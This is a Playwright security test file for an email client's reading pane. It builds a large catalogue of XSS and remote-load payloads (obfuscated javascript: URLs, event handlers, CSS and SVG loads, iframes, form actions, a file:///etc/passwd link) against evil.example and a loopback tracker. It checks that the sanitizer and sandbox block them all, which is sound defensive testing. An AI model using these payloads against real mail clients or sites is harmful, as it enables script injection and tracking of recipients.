@@ -1,0 +1,632 @@
+import fs from 'node:fs';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import os from 'node:os';
+import path from 'node:path';
+import { type BrowserContext, expect, type Frame, type Page, type Request, test } from '@playwright/test';
+import { createDispatcher } from '../core/host/dispatch.js';
+import { type HttpHost, startHttpHost } from '../core/host/http-host.js';
+import { JournalService } from '../core/journal-service.js';
+import { FileSecretStore } from '../core/secrets/file-secret-store.js';
+import { letterDocument } from '../renderer/letter-document.js';
+import { letter } from './fixtures/letters.js';
+import { type DovecotServer, dovecotAvailable, startDovecot } from './support/dovecot.js';
+import { seedMessages } from './support/maildir.js';
+
+const available = dovecotAvailable();
+const USER = 'anna@interlog.test';
+const PASSWORD = 'Пароль-hostile';
+const RENDERER = path.resolve(import.meta.dirname, '..', 'dist', 'renderer');
+const SCREENS = path.resolve(import.meta.dirname, '..', 'test-results', 'screens');
+const END = 'End of the hostile letter.';
+
+/**
+ * A stand-in for the sender's servers, on loopback so that every fetch an attack manages is seen here with the
+ * path that names the attack. It answers everything with a 1×1 PNG, so an image that loads fires no onerror.
+ */
+async function startTracker() {
+  const hits: string[] = [];
+  const png = Buffer.from(
+    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
+    'base64',
+  );
+  const server = http.createServer((req, res) => {
+    hits.push(new URL(req.url ?? '/', 'http://x').pathname);
+    res.writeHead(200, { 'Content-Type': 'image/png', 'Access-Control-Allow-Origin': '*' });
+    res.end(png);
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  return { origin, hits, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
+}
+
+interface Attack {
+  name: string;
+  html: string;
+}
+
+/**
+ * What an attack does when it runs: marks the frame's and the app's window, renames the page, logs and alerts.
+ * Each of these is looked for afterwards; single quotes only, so it fits in a double-quoted attribute.
+ */
+const run = (tag: string) =>
+  `window.pwned='${tag}';try{top.pwned='${tag}';top.document.title='pwned'}catch(e){}document.title='pwned';console.log('XSS-${tag}');alert('${tag}')`;
+
+/** The same script as a base64 data: URL body, for the attacks that smuggle a whole document. */
+const scriptDocument = (tag: string) => Buffer.from(`<script>${run(tag)}</script>`).toString('base64');
+
+/** Head attacks: a letter written as a whole document, with everything a browser honours in <head>. */
+function headAttacks(r: string): Attack[] {
+  return [
+    { name: 'meta refresh to a remote page', html: `<meta http-equiv="refresh" content="0;url=${r}/meta-refresh">` },
+    {
+      name: 'meta refresh to javascript:',
+      html: `<meta http-equiv="Refresh" content="0;url=javascript:${run('meta')}">`,
+    },
+    { name: 'base href', html: `<base href="${r}/base/">` },
+    { name: 'link stylesheet', html: `<link rel="stylesheet" href="${r}/link-stylesheet.css">` },
+    { name: 'link prefetch', html: `<link rel="prefetch" href="${r}/link-prefetch">` },
+    { name: 'link preload', html: `<link rel="preload" as="image" href="${r}/link-preload.png">` },
+    { name: 'link preconnect', html: '<link rel="preconnect" href="https://evil.example">' },
+    { name: 'link dns-prefetch', html: '<link rel="dns-prefetch" href="//dns.evil.example">' },
+    { name: 'link icon', html: `<link rel="icon" href="${r}/link-icon.png">` },
+    { name: 'link import', html: `<link rel="import" href="${r}/link-import.html">` },
+    { name: '<style> background url()', html: `<style>body { background: url(${r}/style-background.png) }</style>` },
+    { name: '<style> @import', html: `<style>@import url("${r}/style-import.css");</style>` },
+    { name: '<style> @ImPoRt mixed case', html: `<style>@ImPoRt '${r}/style-import-case.css';</style>` },
+    {
+      name: '<style> @font-face',
+      html: `<style>@font-face { font-family: t; src: url(${r}/style-font.woff) } p { font-family: t }</style>`,
+    },
+    {
+      name: '<style> list-style-image and cursor',
+      html: `<style>li { list-style-image: url(${r}/style-list.png); cursor: url(${r}/style-cursor.png), auto }</style>`,
+    },
+    { name: '<script> inline', html: `<script>${run('script')}</script>` },
+    { name: '<script src>', html: `<script src="${r}/script-src.js"></script>` },
+    { name: '<ScRiPt> mixed case', html: `<ScRiPt>${run('script-case')}</sCrIpT>` },
+    { name: '<title> breakout', html: `<title></title><script>${run('title')}</script></title>` },
+  ];
+}
+
+/** Body attacks: handlers, script URLs, forms, frames, plugins, and remote loads by every attribute that can. */
+function bodyAttacks(r: string): Attack[] {
+  const gif = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
+  const link = (name: string, href: string) => ({
+    name,
+    html: `<p><a href="${href}">link: ${name}</a></p>`,
+  });
+  return [
+    { name: 'img onerror', html: `<img src="x" onerror="${run('img-onerror')}">` },
+    { name: 'img onload on an inline image', html: `<img src="${gif}" onload="${run('img-onload')}">` },
+    { name: 'IMG ONERROR upper case', html: `<IMG SRC="${r}/img-upper.png" ONERROR="${run('img-upper')}">` },
+    { name: 'p onclick', html: `<p onclick="${run('p-onclick')}">click me (p)</p>` },
+    { name: 'div onmouseover', html: `<div onmouseover="${run('div-mouseover')}">hover me (div)</div>` },
+    { name: 'a onclick', html: `<a onclick="${run('a-onclick')}">click me (a)</a>` },
+    {
+      name: 'table and td onclick',
+      html: `<table onclick="${run('table')}"><tr><td onclick="${run('td')}">click me (td)</td></tr></table>`,
+    },
+    { name: 'span onfocus autofocus', html: `<span tabindex="0" autofocus onfocus="${run('autofocus')}">focus</span>` },
+    { name: 'details ontoggle', html: `<details open ontoggle="${run('details')}"><summary>s</summary>d</details>` },
+    { name: 'marquee onstart', html: `<marquee onstart="${run('marquee')}">m</marquee>` },
+    { name: 'body onload in the body', html: `<body onload="${run('body-onload')}">` },
+    { name: 'b onmouseenter, no quotes', html: `<b onmouseenter=alert(1) id=x>bold</b>` },
+    { name: 'on-handler after a slash', html: `<img/src="x"/onerror="${run('slash')}">` },
+    link('javascript:', `javascript:${run('href')}`),
+    link('JaVaScRiPt: mixed case', `JaVaScRiPt:${run('href-case')}`),
+    link('jav&#x61;script: hex entity', `jav&#x61;script:${run('href-hex')}`),
+    link('decimal entities', `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run('href-dec')}`),
+    link('entities without semicolons', `&#x6A&#x61&#x76&#x61script&#x3A${run('href-nosemi')}`),
+    link('&colon; named entity', `javascript&colon;${run('href-colon')}`),
+    link('tab inside the scheme', `java&#x09;script:${run('href-tab')}`),
+    link('&Tab; and &NewLine; inside the scheme', `java&Tab;scr&NewLine;ipt:${run('href-named-tab')}`),
+    link('newline inside the scheme', `java\nscript:${run('href-newline')}`),
+    link('leading spaces and controls', ` &#x01; javascript:${run('href-lead')}`),
+    link('vbscript:', 'vbscript:msgbox(1)'),
+    link('VBScript: mixed case', 'VBScript:msgbox(1)'),
+    link('data:text/html', `data:text/html;base64,${scriptDocument('data-link')}`),
+    link('file:', 'file:///etc/passwd'),
+    { name: 'a target=_top', html: `<p><a href="${r}/click-top" target="_top">link: target _top</a></p>` },
+    { name: 'a target=_self', html: `<p><a href="${r}/click-self" target="_self">link: target _self</a></p>` },
+    { name: 'a ping', html: `<p><a href="https://evil.example/pinged" ping="${r}/ping">link: ping</a></p>` },
+    { name: 'a download', html: `<p><a href="${r}/download.exe" download>link: download</a></p>` },
+    {
+      name: 'form with a remote action',
+      html: `<form action="${r}/form-action" method="post"><input name="password" value="secret"><button>Log in</button></form>`,
+    },
+    {
+      name: 'form submitted by autofocus',
+      html: `<form action="${r}/form-auto"><input autofocus onfocus="this.form.submit()"></form>`,
+    },
+    { name: 'button formaction', html: `<button formaction="${r}/formaction">Submit</button>` },
+    {
+      name: 'formaction javascript:',
+      html: `<form><button formaction="javascript:${run('formaction')}">Go</button></form>`,
+    },
+    { name: 'input type=image', html: `<input type="image" src="${r}/input-image.png">` },
+    { name: 'iframe src', html: `<iframe src="${r}/iframe.html"></iframe>` },
+    { name: 'iframe srcdoc', html: `<iframe srcdoc="<script>${run('srcdoc')}</script>"></iframe>` },
+    { name: 'iframe javascript:', html: `<iframe src="javascript:${run('iframe-js')}"></iframe>` },
+    { name: 'frameset onload', html: `<frameset onload="${run('frameset')}"><frame src="${r}/frame.html"></frameset>` },
+    { name: 'object data', html: `<object data="${r}/object.swf" type="application/x-shockwave-flash"></object>` },
+    {
+      name: 'object data: html',
+      html: `<object type="text/html" data="data:text/html;base64,${scriptDocument('object')}"></object>`,
+    },
+    { name: 'embed src', html: `<embed src="${r}/embed.swf">` },
+    { name: 'embed javascript:', html: `<embed src="javascript:${run('embed')}">` },
+    { name: 'applet', html: `<applet code="Evil.class" codebase="${r}/applet/"></applet>` },
+    { name: 'meta refresh in the body', html: `<meta http-equiv="refresh" content="0; url=${r}/meta-refresh-body">` },
+    { name: 'tracking pixel (1×1 remote img)', html: `<img src="${r}/pixel.gif" width="1" height="1" alt="">` },
+    { name: 'remote photo', html: `<img src="${r}/photo.png" alt="photo">` },
+    { name: 'img srcset', html: `<img srcset="${r}/srcset.png 1x, ${r}/srcset-2x.png 2x">` },
+    {
+      name: 'picture source srcset',
+      html: `<picture><source srcset="${r}/source.png"><img src="${gif}" alt="p"></picture>`,
+    },
+    { name: 'img lowsrc and dynsrc', html: `<img src="${gif}" lowsrc="${r}/lowsrc.png" dynsrc="${r}/dynsrc.avi">` },
+    { name: 'image tag (parsed as img)', html: `<image src="${r}/image-tag.png">` },
+    { name: 'img data:image/svg+xml', html: `<img src="data:image/svg+xml;base64,${scriptDocument('svg-data')}">` },
+    { name: 'img javascript:', html: `<img src="javascript:${run('img-js')}">` },
+    { name: 'relative img against <base>', html: '<img src="relative.png" alt="relative">' },
+    { name: 'video poster', html: `<video poster="${r}/poster.png" src="${r}/video.mp4" autoplay></video>` },
+    { name: 'audio autoplay', html: `<audio src="${r}/audio.mp3" autoplay></audio>` },
+    { name: 'table background', html: `<table background="${r}/table-background.png"><tr><td>t</td></tr></table>` },
+    { name: 'td background', html: `<table><tr><td background="${r}/td-background.png">td</td></tr></table>` },
+    { name: 'body background', html: `<body background="${r}/body-background.png">` },
+    {
+      name: 'noscript smuggling',
+      html: `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></p></noscript>`,
+    },
+    { name: 'comment confusion', html: `<!--><img src=x onerror="${run('comment')}">-->` },
+    { name: 'textarea breakout', html: `<textarea></textarea><img src=x onerror="${run('textarea')}">` },
+    { name: 'template', html: `<template><img src=x onerror="${run('template')}"></template>` },
+  ];
+}
+
+/** CSS and SVG attacks: remote url() in every spelling, expressions and bindings, and SVG's own ways to load. */
+function styleAndSvgAttacks(r: string): Attack[] {
+  const styled = (name: string, style: string) => ({
+    name,
+    html: `<div style="${style}">styled: ${name}</div>`,
+  });
+  return [
+    styled('style background url()', `background: url(${r}/css-background.png)`),
+    styled('style background-image quoted url()', `background-image: url(&quot;${r}/css-quoted.png&quot;)`),
+    styled('style u&#114;l() entity', `background-image: u&#114;l(${r}/css-entity.png)`),
+    styled('style \\75 rl() CSS escape', `background: \\75 rl(${r}/css-escape.png)`),
+    styled('style URL() upper case', `BACKGROUND: URL(${r}/css-upper.png)`),
+    styled('style url() after a comment', `background: /**/url(${r}/css-comment.png)`),
+    styled('style image-set()', `background-image: image-set("${r}/css-image-set.png" 1x)`),
+    styled('style -webkit-image-set()', `background-image: -webkit-image-set(url(${r}/css-webkit-set.png) 1x)`),
+    styled('style border-image', `border: 5px solid; border-image: url(${r}/css-border.png) 30 round`),
+    styled('style list-style-image', `list-style-image: url(${r}/css-list.png)`),
+    styled('style cursor', `cursor: url(${r}/css-cursor.png), auto`),
+    styled('style content url()', `content: url(${r}/css-content.png)`),
+    styled('style mask-image', `mask-image: url(${r}/css-mask.png); -webkit-mask-image: url(${r}/css-webkit-mask.png)`),
+    styled('style @import smuggled', `color: red; @import url(${r}/css-import.css)`),
+    styled('style expression()', `width: expression(${run('expression')})`),
+    styled('style behavior', `behavior: url(${r}/css-behavior.htc)`),
+    styled('style -moz-binding', `-moz-binding: url(${r}/css-binding.xml#x)`),
+    styled('style javascript: url', `background: url(javascript:${run('css-js')})`),
+    styled('style breaking out of the attribute', `color: red" onmouseover="${run('style-breakout')}`),
+    { name: 'svg onload', html: `<svg onload="${run('svg-onload')}" width="10" height="10"><circle r="4"/></svg>` },
+    { name: 'svg use href', html: `<svg><use href="${r}/svg-use.svg#x"/></svg>` },
+    { name: 'svg use xlink:href', html: `<svg><use xlink:href="${r}/svg-use-xlink.svg#x"/></svg>` },
+    { name: 'svg image href', html: `<svg><image href="${r}/svg-image.png" width="10" height="10"/></svg>` },
+    {
+      name: 'svg a xlink:href javascript:',
+      html: `<svg><a xlink:href="javascript:${run('svg-a')}"><text y="10">svg link</text></a></svg>`,
+    },
+    { name: 'svg script', html: `<svg><script>${run('svg-script')}</script></svg>` },
+    {
+      name: 'svg animate onbegin',
+      html: `<svg><animate onbegin="${run('svg-animate')}" attributeName="x" dur="1s"/></svg>`,
+    },
+    {
+      name: 'svg set href to javascript:',
+      html: `<svg><a><set attributeName="href" to="javascript:${run('svg-set')}"/><text y="10">set</text></a></svg>`,
+    },
+    { name: 'svg feImage', html: `<svg><filter id="f"><feImage href="${r}/svg-feimage.png"/></filter></svg>` },
+    {
+      name: 'svg foreignObject iframe',
+      html: `<svg><foreignObject><iframe src="${r}/svg-foreign.html"></iframe></foreignObject></svg>`,
+    },
+    { name: 'svg style @import', html: `<svg><style>@import url(${r}/svg-style.css);</style></svg>` },
+    { name: 'math xlink:href', html: `<math><mi xlink:href="javascript:${run('math')}">x</mi></math>` },
+  ];
+}
+
+/** The remote paths an <img src> asks for: the only ones "Show images" may fetch. */
+const IMAGE_PATHS = ['/img-upper.png', '/pixel.gif', '/photo.png'];
+
+function hostileLetters(r: string) {
+  const head = headAttacks(r);
+  const body = bodyAttacks(r);
+  const styles = styleAndSvgAttacks(r);
+  const bodyOf = (attacks: Attack[]) => attacks.map((a) => a.html).join('\n');
+  return {
+    attacks: [...head, ...body, ...styles],
+    letters: [
+      {
+        subject: 'Hostile: document head',
+        html: `<!doctype html><html><head>${bodyOf(head)}</head><body onload="${run('onload')}"><h1>Head attacks</h1><img src="relative.png" alt="relative"><p>${END}</p></body></html>`,
+      },
+      { subject: 'Hostile: body', html: `<h1>Body attacks</h1>\n${bodyOf(body)}\n<p>${END}</p>` },
+      { subject: 'Hostile: CSS and SVG', html: `<h1>CSS and SVG attacks</h1>\n${bodyOf(styles)}\n<p>${END}</p>` },
+    ],
+  };
+}
+
+/** Markup in a plain-text letter, and in the header fields the app itself renders. */
+const PLAIN_MARKUP = (r: string) =>
+  `Price list below.\n<script>${run('plain')}</script>\n<b>not bold</b> <img src="${r}/plain-text.png" onerror="${run('plain-img')}">\n<a href="javascript:${run('plain-link')}">not a link</a>`;
+const SUBJECT_MARKUP = `<img src=x onerror="${run('subject')}"> Subject <b>markup</b>`;
+
+/** Run inside the letter's frame (as a string: the e2e code is type-checked without the DOM library). */
+const INSPECT_LETTER = `({
+  pwned: window.pwned ?? null,
+  title: document.title,
+  head: [...document.head.children].map((el) => el.tagName.toLowerCase()),
+  active: [...document.body.querySelectorAll(
+    'script, style, iframe, frame, object, embed, applet, form, input, button, link, meta, base, svg, math, video, ' +
+    'audio, source, picture, template, noscript, textarea, marquee')].map((el) => el.tagName.toLowerCase()),
+  handlers: [...document.querySelectorAll('*')].flatMap((el) =>
+    [...el.attributes].map((a) => a.name).filter((n) => n.startsWith('on') || n === 'srcset' || n === 'background' ||
+      n === 'poster' || n === 'formaction' || n === 'ping' || n === 'target' && el.getAttribute(n) !== '_blank' ||
+      n.includes(':'))),
+  links: [...document.querySelectorAll('[href]')].map((a) => a.getAttribute('href'))
+    .filter((href) => !/^(https?|mailto):/i.test(href)),
+  images: [...document.images].map((img) => img.getAttribute('src'))
+    .filter((src) => !src.startsWith('data:image/gif;base64,') && !src.startsWith('data:image/png;base64,')),
+  end: document.body.innerText.includes(${JSON.stringify(END)}),
+})`;
+
+test.describe('hostile HTML in the reading pane', () => {
+  test.skip(!available.ok, `needs a Dovecot to sync from (${available.ok ? '' : available.reason})`);
+  test.skip(!fs.existsSync(path.join(RENDERER, 'index.html')), 'needs the renderer built: run `npx vite build`');
+  test.describe.configure({ mode: 'serial' });
+
+  let server: DovecotServer;
+  let service: JournalService;
+  let host: HttpHost;
+  let tracker: Awaited<ReturnType<typeof startTracker>>;
+  let hostile: ReturnType<typeof hostileLetters>;
+  let dir: string;
+
+  test.beforeAll(async () => {
+    fs.mkdirSync(SCREENS, { recursive: true });
+    tracker = await startTracker();
+    hostile = hostileLetters(tracker.origin);
+    server = await startDovecot({ users: [{ user: USER, password: PASSWORD }] });
+    const from = 'Prize Office <winner@evil.example>';
+    seedMessages(server, USER, 'INBOX', [
+      ...hostile.letters.map((l, i) => ({
+        raw: letter({
+          from,
+          to: USER,
+          subject: l.subject,
+          messageId: `hostile-${i}@evil.example`,
+          date: `Fri, 0${i + 1} Mar 2024 08:00:00 +0300`,
+          text: `${l.subject}: the plain-text part.`,
+          html: l.html,
+        }),
+      })),
+      {
+        raw: letter({
+          from,
+          to: USER,
+          subject: 'Plain text with markup',
+          messageId: 'plain-markup@evil.example',
+          date: 'Mon, 04 Mar 2024 08:00:00 +0300',
+          text: PLAIN_MARKUP(tracker.origin),
+        }),
+      },
+      {
+        raw: letter({
+          from: `"<img src=x onerror=alert(1)>" <winner@evil.example>`,
+          to: USER,
+          subject: SUBJECT_MARKUP,
+          messageId: 'subject-markup@evil.example',
+          date: 'Tue, 05 Mar 2024 08:00:00 +0300',
+          text: 'The subject and the sender carry markup.',
+        }),
+      },
+    ]);
+    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'interlog-e2e-hostile-'));
+    const dbFile = path.join(dir, 'journal.db');
+    service = new JournalService({ dbFile, secrets: FileSecretStore.besideJournal(dbFile) });
+    await service.addAccount({
+      name: 'Work',
+      email: USER,
+      protocol: 'imap',
+      host: '127.0.0.1',
+      port: server.imapPort,
+      security: 'starttls',
+      username: USER,
+      password: PASSWORD,
+      acceptSelfSigned: true,
+    });
+    await service.sync({});
+    host = await startHttpHost({ dispatcher: createDispatcher(service), staticDir: RENDERER });
+    console.log(`hostile HTML: ${hostile.attacks.length} attacks in ${hostile.letters.length} letters`);
+  });
+
+  test.beforeEach(() => {
+    // Each test counts the fetches it caused; "Show images" makes some on purpose.
+    tracker.hits.length = 0;
+  });
+
+  test.afterAll(async () => {
+    await host?.close();
+    await service?.close();
+    await server?.stop();
+    await tracker?.close();
+    if (dir) fs.rmSync(dir, { recursive: true, force: true });
+  });
+
+  interface Seen {
+    url: string;
+    type: string;
+    /** The URL of the frame that asked: 'about:srcdoc' for the letter. */
+    frame: string;
+    /** 'finished' once a server answered; Chromium's reason when it never went out (a CSP block, our abort). */
+    outcome: string;
+  }
+
+  /**
+   * Everything the page could do that a user would notice or a sender could observe: requests (any request off
+   * this machine is refused as well as recorded), dialogs, console lines, new windows, navigations of the app.
+   */
+  async function watch(page: Page, context: BrowserContext) {
+    const requests = new Map<Request, Seen>();
+    context.on('request', (request) => {
+      let frame = '';
+      try {
+        frame = request.frame().url();
+      } catch {
+        frame = '(no frame)';
+      }
+      requests.set(request, { url: request.url(), type: request.resourceType(), frame, outcome: 'pending' });
+    });
+    context.on('requestfinished', (request) => {
+      const seen = requests.get(request);
+      if (seen) seen.outcome = 'finished';
+    });
+    context.on('requestfailed', (request) => {
+      const seen = requests.get(request);
+      if (seen) seen.outcome = request.failure()?.errorText ?? 'failed';
+    });
+    const refused: string[] = [];
+    await context.route(
+      (url) => url.hostname !== '127.0.0.1',
+      (route) => {
+        refused.push(route.request().url());
+        return route.abort();
+      },
+    );
+    const dialogs: string[] = [];
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    const xss: string[] = [];
+    page.on('console', (message) => {
+      // Only what an attack's own console.log wrote: Chromium reports each blocked load with the attack's URL in it.
+      if (message.text().startsWith('XSS-')) xss.push(message.text());
+    });
+    const popups: string[] = [];
+    context.on('page', (p) => popups.push(p.url()));
+    const navigations: string[] = [];
+    const all = () => [...requests.values()];
+    /** Requests that left the app's own origin, or that the letter's frame made at all. */
+    const escaped = () => all().filter((r) => !r.url.startsWith(`${host.origin}/`) || r.frame === 'about:srcdoc');
+    return {
+      /** From now on, a navigation of the app's page is recorded (the app's own load comes before). */
+      watchNavigation: () =>
+        page.on('framenavigated', (frame) => {
+          if (frame === page.mainFrame()) navigations.push(frame.url());
+        }),
+      count: () => requests.size,
+      escaped,
+      /** Of those, the ones that reached a server, and the ones that tried to leave this machine. */
+      delivered: () => escaped().filter((r) => r.outcome === 'pending' || r.outcome === 'finished'),
+      refused,
+      dialogs,
+      xss,
+      popups,
+      navigations,
+    };
+  }
+
+  async function open(page: Page) {
+    const response = await page.goto(host.url);
+    expect(response?.status()).toBe(200);
+    await expect(page.getByRole('listbox', { name: 'Interactions' })).toBeVisible();
+  }
+
+  const row = (page: Page, title: string) =>
+    page
+      .locator('.vlist')
+      .getByRole('option')
+      .filter({ has: page.locator('.title').getByText(title, { exact: true }) });
+
+  function letterFrame(page: Page): Frame {
+    const frames = page.frames().filter((f) => f !== page.mainFrame());
+    // Exactly one child frame: an <iframe>, <object> or <embed> that got through would add its own.
+    expect(frames.map((f) => f.url())).toEqual(['about:srcdoc']);
+    return frames[0] as Frame;
+  }
+
+  /** Opens a letter and waits until its frame has loaded everything it was going to load. */
+  async function read(page: Page, subject: string): Promise<Frame> {
+    await row(page, subject).click();
+    await expect(page.locator('.letter-title')).toContainText(subject);
+    await expect(page.frameLocator('iframe.letter-frame').locator('body')).toContainText(END);
+    const frame = letterFrame(page);
+    await frame.waitForLoadState('load');
+    return frame;
+  }
+
+  /** The app as the user left it: same address, same title, nothing marked by a script. */
+  async function appState(page: Page) {
+    return page.evaluate(`({ url: location.href, title: document.title, pwned: window.pwned ?? null })`);
+  }
+
+  test('no attack runs a script, loads anything, or navigates', async ({ page, context }) => {
+    const seen = await watch(page, context);
+    await open(page);
+    seen.watchNavigation();
+    const before = await appState(page);
+    expect(before).toMatchObject({ url: `${host.origin}/`, pwned: null });
+
+    for (const { subject } of hostile.letters) {
+      const frame = await read(page, subject);
+      const inside = (await frame.evaluate(INSPECT_LETTER)) as Record<string, unknown>;
+      expect(inside, subject).toEqual({
+        pwned: null,
+        title: '',
+        head: ['meta', 'meta', 'meta', 'style'],
+        active: [],
+        handlers: [],
+        links: [],
+        images: [],
+        end: true,
+      });
+      // The frame's own wall: the policy it was written with, and the empty sandbox.
+      await expect(page.locator('iframe.letter-frame')).toHaveAttribute('sandbox', '');
+      expect(await page.locator('iframe.letter-frame').getAttribute('srcdoc')).toContain(
+        `content="default-src 'none'; img-src data:;`,
+      );
+
+      // A user clicks, hovers and tabs through the letter: links and controls do nothing.
+      const frameLocator = page.frameLocator('iframe.letter-frame');
+      const links = frameLocator.locator('a');
+      for (let i = 0; i < (await links.count()); i++) {
+        const link = links.nth(i);
+        if (await link.isVisible()) await link.click();
+      }
+      for (const text of ['click me (p)', 'click me (td)', 'hover me (div)', 'bold']) {
+        const target = frameLocator.getByText(text, { exact: true });
+        if ((await target.count()) > 0) {
+          await target.first().hover();
+          await target.first().click();
+        }
+      }
+      await frameLocator.locator('body').press('Tab');
+      await frameLocator.locator('body').press('Enter');
+      await page.screenshot({ path: path.join(SCREENS, `hostile-${subject.replace(/\W+/g, '-')}.png`) });
+      // A meta refresh fires after load and a click's navigation takes a moment: give them the time to show up.
+      await page.waitForTimeout(1_000);
+      expect(letterFrame(page).url()).toBe('about:srcdoc');
+    }
+
+    expect(await appState(page)).toEqual(before);
+    expect(seen.escaped()).toEqual([]);
+    expect(tracker.hits).toEqual([]);
+    expect(seen.dialogs).toEqual([]);
+    expect(seen.xss).toEqual([]);
+    expect(seen.popups).toEqual([]);
+    expect(seen.navigations).toEqual([]);
+    console.log(
+      `hostile HTML: ${hostile.attacks.length} attacks tried, 0 ran a script, 0 of ${seen.count()} requests left the app`,
+    );
+  });
+
+  test('"Show images" loads the remote images and nothing else', async ({ page, context }) => {
+    const seen = await watch(page, context);
+    await open(page);
+    seen.watchNavigation();
+    const before = await appState(page);
+    await read(page, 'Hostile: body');
+    await expect(page.locator('.blocked-images')).toContainText(`${IMAGE_PATHS.length} remote images are blocked`);
+    expect(tracker.hits).toEqual([]);
+
+    await page.getByRole('button', { name: 'Show images' }).click();
+    await expect(page.locator('.blocked-images')).toHaveCount(0);
+    await expect.poll(() => [...tracker.hits].sort()).toEqual([...IMAGE_PATHS].sort());
+    const frame = letterFrame(page);
+    await frame.waitForLoadState('load');
+    const inside = (await frame.evaluate(INSPECT_LETTER)) as { images: string[]; pwned: unknown };
+    expect(inside.pwned).toBeNull();
+    expect(inside.images.sort()).toEqual(IMAGE_PATHS.map((p) => `${tracker.origin}${p}`).sort());
+    await page.screenshot({ path: path.join(SCREENS, 'hostile-images-shown.png') });
+    await page.waitForTimeout(1_000);
+
+    // The letter's frame fetched images from the sender's server, one each, and nothing else from anywhere.
+    const escaped = seen.escaped();
+    expect(escaped.map((r) => `${r.type} ${r.url}`).sort()).toEqual(
+      IMAGE_PATHS.map((p) => `image ${tracker.origin}${p}`).sort(),
+    );
+    expect([...tracker.hits].sort()).toEqual([...IMAGE_PATHS].sort());
+    expect(await appState(page)).toEqual(before);
+    expect(seen.dialogs).toEqual([]);
+    expect(seen.xss).toEqual([]);
+    expect(seen.popups).toEqual([]);
+    expect(seen.navigations).toEqual([]);
+  });
+
+  test('markup in a plain-text letter and in the headers stays text', async ({ page, context }) => {
+    const seen = await watch(page, context);
+    await open(page);
+    seen.watchNavigation();
+    const before = await appState(page);
+
+    await row(page, 'Plain text with markup').click();
+    const text = page.locator('.letter-text');
+    await expect(text).toContainText('<b>not bold</b>');
+    await expect(text).toContainText('<script>');
+    await expect(text.locator('b, img, script, a')).toHaveCount(0);
+    await expect(page.locator('iframe.letter-frame')).toHaveCount(0);
+
+    await row(page, SUBJECT_MARKUP).click();
+    await expect(page.locator('.letter-title')).toContainText(SUBJECT_MARKUP);
+    await expect(page.locator('.letter-head')).toContainText('<img src=x onerror=alert(1)>');
+    await expect(page.locator('img[src="x"], b:has-text("markup")')).toHaveCount(0);
+    await page.screenshot({ path: path.join(SCREENS, 'hostile-plain-text.png') });
+    await page.waitForTimeout(500);
+
+    expect(await appState(page)).toEqual(before);
+    expect(seen.escaped()).toEqual([]);
+    expect(seen.dialogs).toEqual([]);
+    expect(seen.xss).toEqual([]);
+  });
+
+  test('the frame alone holds when the sanitizer is bypassed', async ({ page, context }) => {
+    // The inner wall on its own: every hostile letter, unsanitized, in the frame the reading pane builds.
+    const seen = await watch(page, context);
+    await open(page);
+    seen.watchNavigation();
+    const before = await appState(page);
+    for (const { html } of hostile.letters) {
+      await page.evaluate(
+        `(() => {
+          const frame = document.createElement('iframe');
+          frame.className = 'raw-letter';
+          frame.setAttribute('sandbox', '');
+          frame.setAttribute('referrerpolicy', 'no-referrer');
+          frame.srcdoc = ${JSON.stringify(letterDocument(html, { remoteImages: false }))};
+          document.body.append(frame);
+        })()`,
+      );
+    }
+    const frames = page.frameLocator('iframe.raw-letter');
+    await expect(page.locator('iframe.raw-letter')).toHaveCount(hostile.letters.length);
+    for (let i = 0; i < hostile.letters.length; i++) await expect(frames.nth(i).locator('body')).toContainText(END);
+    for (const frame of page.mainFrame().childFrames()) await frame.waitForLoadState('load');
+    await page.waitForTimeout(1_000);
+
+    // Chromium reports the loads the frame's policy stopped as failed requests; none may reach a server.
+    const blocked = seen.escaped().filter((r) => r.outcome !== 'finished');
+    console.log(`hostile HTML, frame alone: ${blocked.length} loads attempted, all blocked by the frame's policy`);
+    expect(await appState(page)).toEqual(before);
+    expect(seen.delivered()).toEqual([]);
+    expect(seen.refused).toEqual([]);
+    expect(tracker.hits).toEqual([]);
+    expect(seen.dialogs).toEqual([]);
+    expect(seen.xss).toEqual([]);
+    expect(seen.popups).toEqual([]);
+    expect(seen.navigations).toEqual([]);
+  });
+});
